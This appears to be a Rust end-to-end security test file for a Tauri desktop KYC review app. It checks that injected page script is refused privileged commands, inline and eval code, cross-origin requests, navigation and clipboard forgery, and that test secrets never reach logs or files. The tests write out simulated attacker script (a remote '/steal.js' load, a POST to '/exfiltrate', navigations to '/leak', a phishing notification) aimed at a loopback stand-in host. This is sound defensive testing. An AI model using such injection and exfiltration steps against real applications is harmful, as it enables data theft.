//! The window as an attacker inside it would find it, and the traces a session leaves: script
//! running in the page cannot call what no capability grants, cannot run inline or evaluated code,
//! cannot reach another origin, cannot navigate the window away from the app, cannot choose what
//! the copy buttons put on the clipboard; and after secrets were saved and every screen used, no
//! file the app and its session wrote, no log line and no answer of a command holds a secret.

use std::io::ErrorKind;
use std::net::{Ipv4Addr, TcpListener};
use std::path::{Path, PathBuf};

use e2e::{Desk, Theme};
use serde_json::Value;

const CLIENT_SECRET: &str = "cs-hygiene-51d0e-never-anywhere";
const FEED_TOKEN: &str = "ft-hygiene-8be2a-never-anywhere";

/// Calls a command the way the window's code does, and says how it ended: `allowed` with its
/// answer, or `refused` with Tauri's or the command's error.
const INVOKE: &str = r#"
const done = arguments[arguments.length - 1];
const [command, args] = [arguments[0], arguments[1]];
window.__TAURI_INTERNALS__.invoke(command, args).then(
  (answer) => done({ allowed: JSON.stringify(answer === undefined ? null : answer) }),
  (error) => done({ refused: typeof error === 'string' ? error : JSON.stringify(error) }),
);
"#;

async fn invoke(desk: &Desk, command: &str, args: Value) -> Result<String, String> {
    let outcome = desk
        .script_async_with(INVOKE, vec![Value::from(command), args])
        .await;
    match (outcome.get("allowed"), outcome.get("refused")) {
        (Some(Value::String(answer)), _) => Ok(answer.clone()),
        (_, Some(Value::String(error))) => Err(error.clone()),
        _ => panic!("{command} ended neither way: {outcome}"),
    }
}

#[tokio::test]
async fn script_in_the_window_cannot_call_ungranted_commands_run_inline_code_or_reach_out() {
    let desk = Desk::open(Theme::Light).await;
    desk.element(".grid .row[data-user]").await;
    let title = desk.title().await;

    // A granted command answers; what no capability grants is refused by Tauri before it runs.
    let catalogue = invoke(&desk, "reason_catalogue", Value::Null).await;
    assert!(
        catalogue.as_deref().is_ok_and(|c| c.contains("2304")),
        "{catalogue:?}"
    );
    for (command, args) in [
        ("plugin:clipboard-manager|read_text", serde_json::json!({})),
        (
            "plugin:notification|notify",
            serde_json::json!({ "options": { "title": "phish" } }),
        ),
        (
            "plugin:window|set_title",
            serde_json::json!({ "label": "main", "value": "pwned" }),
        ),
        (
            "plugin:webview|create_webview_window",
            serde_json::json!({ "options": { "label": "evil", "url": "https://example.com" } }),
        ),
    ] {
        let refused = invoke(&desk, command, args)
            .await
            .expect_err(&format!("{command} must be refused"));
        assert!(refused.contains("not allowed"), "{command}: {refused}");
    }
    let unknown = invoke(&desk, "no_such_command", Value::Null).await;
    assert!(unknown.is_err(), "{unknown:?}");
    assert_eq!(desk.title().await, title, "the title is unchanged");

    // Inline script, string evaluation and other origins are refused by the CSP. A listener on
    // loopback stands for another origin: nothing may reach it.
    let outside = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    outside.set_nonblocking(true).unwrap();
    let origin = format!("http://{}", outside.local_addr().unwrap());
    let found = desk
        .script_async_with(
            r#"
const done = arguments[arguments.length - 1];
const origin = arguments[0];
const inline = document.createElement('script');
inline.textContent = 'window.__inlineRan = true;';
document.body.appendChild(inline);
let evaluated;
try { evaluated = eval('"eval ran"'); } catch (e) { evaluated = 'refused: ' + e.name; }
let constructed;
try { constructed = new Function('return "Function ran"')(); } catch (e) { constructed = 'refused: ' + e.name; }
setTimeout('window.__timerRan = true;', 0);
const remote = new Promise((resolve) => {
  const s = document.createElement('script');
  s.src = origin + '/steal.js';
  s.onload = () => resolve('loaded');
  s.onerror = () => resolve('refused');
  document.body.appendChild(s);
});
const fetched = fetch(origin + '/exfiltrate', { method: 'POST', body: 'data' }).then(
  () => 'reached', (e) => 'refused: ' + e.name);
Promise.all([remote, fetched]).then(([remote, fetched]) =>
  requestAnimationFrame(() => setTimeout(() => done({
    inline: window.__inlineRan === true,
    timer: window.__timerRan === true,
    evaluated, constructed, remote, fetched,
  }), 50)));
"#,
            vec![Value::from(origin.clone())],
        )
        .await;
    assert_eq!(found["inline"], false, "inline script ran: {found}");
    assert_eq!(found["timer"], false, "a string timer ran: {found}");
    assert_eq!(found["evaluated"], "refused: EvalError", "{found}");
    assert_eq!(found["constructed"], "refused: EvalError", "{found}");
    assert_eq!(found["remote"], "refused", "{found}");
    assert_eq!(found["fetched"], "refused: TypeError", "{found}");
    match outside.accept() {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        other => panic!("the page reached {origin}: {other:?}"),
    }

    desk.close().await;
}

/// What the X clipboard holds, if anything.
fn clipboard() -> Option<String> {
    let output = std::process::Command::new("xclip")
        .args(["-selection", "clipboard", "-o"])
        .output()
        .expect("xclip runs (scripts/setup installs it)");
    output
        .status
        .success()
        .then(|| String::from_utf8_lossy(&output.stdout).into_owned())
}

/// What each connection waiting at `listener` sent within two seconds of being accepted: an empty
/// text for a connection that carried no request. (WebKit opens a bare connection to the host of a
/// `window.open` the shell refuses, and sends nothing on it.)
fn requests_at(listener: &TcpListener) -> Vec<String> {
    let mut requests = Vec::new();
    loop {
        match listener.accept() {
            Ok((mut socket, _)) => {
                socket.set_nonblocking(false).unwrap();
                socket
                    .set_read_timeout(Some(std::time::Duration::from_secs(2)))
                    .unwrap();
                let mut bytes = [0u8; 4096];
                let read = std::io::Read::read(&mut socket, &mut bytes).unwrap_or(0);
                requests.push(String::from_utf8_lossy(&bytes[..read]).into_owned());
            }
            Err(e) if e.kind() == ErrorKind::WouldBlock => return requests,
            Err(e) => panic!("the listener failed: {e}"),
        }
    }
}

/// The shell's words in the app's log when it refuses a navigation, and a new window.
const KEPT_FROM_NAVIGATING: &str = "kept from navigating away from KYC Desk's own pages";
const KEPT_FROM_OPENING: &str = "kept from opening another window";

#[tokio::test]
async fn script_in_the_window_cannot_leave_the_app_or_choose_what_is_copied() {
    let desk = Desk::open(Theme::Light).await;
    desk.element(".grid .row[data-user]").await;
    let title = desk.title().await;
    desk.script("window.__stillHere = 'the same page'; return null;")
        .await;

    // Script sets `location`, follows a link and opens a window to another origin, one after the
    // other: a listener on loopback stands for it, and nothing may reach it.
    let outside = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    outside.set_nonblocking(true).unwrap();
    let origin = format!("http://{}", outside.local_addr().unwrap());
    // Each attempt is a click of the officer's on something the script put in the page (a user
    // gesture: WebKit itself blocks `window.open` without one).
    // A window that did leave stops answering WebDriver while it waits on the listener: bounded.
    let attempts = async {
        let mut requests = Vec::new();
        for (attempt, (script, refused)) in [
            (
                "location.href = origin + '/leak?case=42';",
                KEPT_FROM_NAVIGATING,
            ),
            (
                "const link = document.createElement('a'); link.href = origin + '/followed'; \
                 document.body.appendChild(link); link.click();",
                KEPT_FROM_NAVIGATING,
            ),
            (
                "window.open(origin + '/opened?case=42');",
                KEPT_FROM_OPENING,
            ),
        ]
        .into_iter()
        .enumerate()
        {
            desk.script_async_with(
                &format!(
                    "const origin = arguments[0];
                     const bait = document.createElement('button');
                     bait.id = 'bait-{attempt}';
                     bait.textContent = 'Bait {attempt}';
                     bait.style = 'position: fixed; top: 0; left: 0; z-index: 9999';
                     bait.addEventListener('click', () => {{ {script} }});
                     document.body.appendChild(bait);
                     arguments[arguments.length - 1](null);"
                ),
                vec![Value::from(origin.clone())],
            )
            .await;
            let before = desk.output().matches(refused).count();
            desk.click(&format!("#bait-{attempt}")).await;
            // The shell logs each refusal (with the origin only): the signal that it was decided.
            desk.wait_for(
                &format!("the shell to refuse attempt {attempt}"),
                async |desk| (desk.output().matches(refused).count() > before).then_some(()),
            )
            .await;
            requests.extend(requests_at(&outside));
        }
        requests
    };
    let mut requests = tokio::time::timeout(std::time::Duration::from_secs(90), attempts)
        .await
        .unwrap_or_else(|_| {
            panic!(
                "the window stopped answering after a script sent it to {origin}: it left the app's pages ({:?})",
                requests_at(&outside)
            )
        });
    let output = desk.output();
    assert!(
        !output.contains("/leak") && !output.contains("/opened") && !output.contains("case=42"),
        "the log names the origin only"
    );
    assert_eq!(
        desk.script("return window.__stillHere ?? null;").await,
        "the same page",
        "the app's page is still there"
    );
    desk.element(".grid .row[data-user]").await;
    assert_eq!(desk.title().await, title);
    requests.extend(requests_at(&outside));
    assert!(
        requests.iter().all(String::is_empty),
        "requests reached {origin}: {requests:?}"
    );

    // What goes on the clipboard is named, never given: the old text-taking command is gone, and
    // text slipped into a request is refused.
    let words = "Your check failed: suspected fraud (2301)";
    let forged = invoke(&desk, "copy_text", serde_json::json!({ "text": words })).await;
    assert!(forged.is_err(), "{forged:?}");
    let user = desk
        .attribute(".grid .row[data-user]", "data-user")
        .await
        .expect("a row names its user");
    let slipped = invoke(
        &desk,
        "copy_to_clipboard",
        serde_json::json!({ "what": { "kind": "customer_text", "user": user.parse::<u64>().unwrap(), "language": "en", "text": words } }),
    )
    .await;
    assert!(
        slipped.as_ref().is_err_and(|e| e.contains("unknown field")),
        "{slipped:?}"
    );
    assert_ne!(clipboard().as_deref(), Some(words));

    desk.close().await;
}

#[tokio::test]
async fn secrets_leave_no_trace_in_files_logs_or_answers() {
    // Every log line the app can write, not only the default ones.
    let desk = Desk::open_with(Theme::Light, &[("RUST_LOG", "debug")]).await;
    desk.element(".grid .row[data-user]").await;

    // Save both secrets, test both connections.
    desk.click("[data-screen=settings]").await;
    desk.wait_for_text(".settings", "No client secret in the keychain.")
        .await;
    desk.fill("input[name=base-url]", "https://acme.sandbox.treezor.co")
        .await;
    desk.fill("input[name=client-id]", "acme-client").await;
    desk.fill("input[name=client-secret]", CLIENT_SECRET).await;
    desk.fill("input[name=relay-url]", "https://relay.acme.example")
        .await;
    desk.fill("input[name=feed-token]", FEED_TOKEN).await;
    desk.click_button("Save settings").await;
    desk.wait_for_text(".settings", "A feed token is saved in the keychain")
        .await;
    assert!(
        desk.keychain_entry("treezor-client-secret.bound")
            .is_some_and(|entry| entry.contains(CLIENT_SECRET)),
        "the secret is where it belongs"
    );
    desk.click_button("Test Treezor connection").await;
    desk.wait_for_text("[aria-label='Treezor check']", "Token")
        .await;
    desk.click_button("Test relay connection").await;
    desk.wait_for_text("[aria-label='Relay check']", "Feed")
        .await;

    // Every screen, and a case.
    desk.click("[data-screen=queue]").await;
    desk.click(".grid .row[data-user]").await;
    desk.element(".case").await;
    desk.click("[data-screen=codes]").await;
    desk.click("[data-screen=files]").await;
    desk.wait_for_text(".files", "Documents on this machine")
        .await;

    // Every command that answers with data, as the window calls them.
    let filter = serde_json::json!({
        "states": [], "scores": [], "aml_flagged": null, "reviews": [], "user_types": [],
        "created": { "from": null, "until": null },
        "last_change": { "from": null, "until": null }, "search": null
    });
    let page = invoke(
        &desk,
        "queue_page",
        serde_json::json!({ "query": {
            "filter": filter, "sort": { "key": "last_change", "direction": "descending" },
            "after": null, "limit": 50
        }}),
    )
    .await
    .expect("the queue answers");
    let first_user: Value =
        serde_json::from_str::<Value>(&page).unwrap()["rows"][0]["user_id"].clone();
    let mut answers = vec![page];
    for (command, args) in [
        ("reason_catalogue", Value::Null),
        ("app_status", Value::Null),
        ("settings_view", Value::Null),
        ("queue_counts", serde_json::json!({ "filter": filter })),
        ("case_file", serde_json::json!({ "user": first_user })),
        ("local_files", Value::Null),
        ("verify_audit", Value::Null),
        ("check_treezor", Value::Null),
        ("check_relay", Value::Null),
    ] {
        answers.push(
            invoke(&desk, command, args)
                .await
                .unwrap_or_else(|e| panic!("{command} answers: {e}")),
        );
    }
    let page_text = desk
        .script("return document.documentElement.outerHTML;")
        .await;
    answers.push(page_text.as_str().unwrap_or_default().to_owned());

    let driver = desk.close_keeping_files().await;
    let output = driver.output();
    assert!(
        output.contains("DEBUG"),
        "the app logged at debug level, so its logs are what is searched"
    );

    let mut found = Vec::new();
    for secret in [CLIENT_SECRET, FEED_TOKEN] {
        for (i, answer) in answers.iter().enumerate() {
            if answer.contains(secret) {
                found.push(format!("answer #{i} holds {secret}"));
            }
        }
        if output.contains(secret) {
            found.push(format!("the logs hold {secret}"));
        }
    }
    let files = files_under(driver.home());
    let sqlite = files.iter().filter(|f| is_sqlite(f)).count();
    assert!(
        sqlite >= 1,
        "the cache file is among those searched: {files:?}"
    );
    assert!(
        files.iter().any(|f| f.ends_with("settings.json")),
        "the settings file is among those searched"
    );
    for file in &files {
        let bytes = std::fs::read(file).unwrap_or_default();
        for secret in [CLIENT_SECRET, FEED_TOKEN] {
            if contains(&bytes, secret.as_bytes()) {
                found.push(format!("{} holds {secret}", file.display()));
            }
        }
    }
    assert!(found.is_empty(), "secrets leaked: {found:#?}");
}

/// Every file the app and its session wrote, but the Secret Service's own keyring files, where
/// the secrets are meant to be (encrypted by gnome-keyring).
fn files_under(root: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    let mut folders = vec![root.to_path_buf()];
    while let Some(folder) = folders.pop() {
        let Ok(entries) = std::fs::read_dir(&folder) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if path == root.join("keyring") {
                continue;
            }
            match entry.file_type() {
                Ok(kind) if kind.is_dir() => folders.push(path),
                Ok(kind) if kind.is_file() => files.push(path),
                _ => {}
            }
        }
    }
    files
}

fn is_sqlite(path: &Path) -> bool {
    std::fs::read(path).is_ok_and(|bytes| bytes.starts_with(b"SQLite format 3\0"))
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}
